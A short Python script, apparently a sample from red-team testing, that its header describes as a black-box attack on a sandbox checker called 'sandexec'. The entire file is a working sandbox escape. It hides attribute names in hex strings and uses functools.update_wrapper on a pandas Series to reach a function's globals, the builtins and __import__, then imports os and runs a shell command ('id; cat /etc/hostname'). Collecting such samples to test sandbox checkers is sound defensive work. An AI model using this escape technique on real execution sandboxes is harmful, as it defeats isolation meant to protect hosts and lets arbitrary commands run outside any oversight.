# Source: black-box attack on sandexec's check, 2026-11-26; family: getattr by name through functools.update_wrapper/wraps
# Verified to run in sandexec-python:bookworm when unchecked.
import functools
import pandas as pd
def s(h):
    return bytes.fromhex(h).decode()
def ga(obj, name):
    box = pd.Series({name: 0}, dtype=object)
    functools.update_wrapper(box, obj, assigned=(name,), updated=())
    return box[name]
def f():
    pass
g = ga(f, s("5f5f676c6f62616c735f5f"))          # __globals__
b = g[s("5f5f6275696c74696e735f5f")]             # __builtins__
imp = ga(b, s("5f5f696d706f72745f5f"))           # __import__
o = imp(s("6f73"))                                # os
ga(o, s("73797374656d"))("id; cat /etc/hostname") # system
